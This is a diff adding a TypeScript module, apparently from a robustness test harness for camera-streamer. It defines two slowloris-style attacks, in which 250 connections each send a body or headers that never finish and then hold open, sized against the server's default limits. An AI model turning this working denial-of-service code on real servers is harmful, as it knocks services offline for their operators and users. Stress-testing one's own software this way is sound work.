@@ -1,0 +1,43 @@
+import type { Attack } from './attack.js'
+import { holdConnections } from './holding.js'
+
+const CONNECTIONS = 250
+/** What the defaults take: `max-body-bytes`, and nearly `max-header-bytes`, for the parser counts a little more than is there. */
+const BODY_BYTES = 131_072
+const HEADER_BYTES = 16_000
+
+/** A request to camera-streamer's address without the last byte of its body. */
+export const unfinishedBody = (bytes = BODY_BYTES): Buffer =>
+  Buffer.concat([
+    Buffer.from(
+      `POST /webrtc HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`,
+    ),
+    Buffer.alloc(bytes - 1, '{"type":"request"}'),
+  ])
+
+/** The headers of a request without the empty line at their end. @param last what it ends with, as a header more. */
+export function unfinishedHeaders(bytes = HEADER_BYTES, path = '/', last = ''): Buffer {
+  const begin = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n`
+  const line = (index: number): string => `X-${index}: ${'a'.repeat(100)}\r\n`
+  let text = begin
+  for (let index = 0; text.length + last.length < bytes - line(index).length; index++) text += line(index)
+  return Buffer.from(text + last)
+}
+
+export const bodies: Attack = {
+  name: 'bodies',
+  about: `${CONNECTIONS} connections post all but the last byte of the largest body, and wait`,
+  run: async (field) => {
+    const bytes = unfinishedBody()
+    await holdConnections(field, CONNECTIONS, (connection) => connection.send(bytes))
+  },
+}
+
+export const headers: Attack = {
+  name: 'headers',
+  about: `${CONNECTIONS} connections send headers up to the limit without their end, and wait`,
+  run: async (field) => {
+    const bytes = unfinishedHeaders()
+    await holdConnections(field, CONNECTIONS, (connection) => connection.send(bytes))
+  },
+}
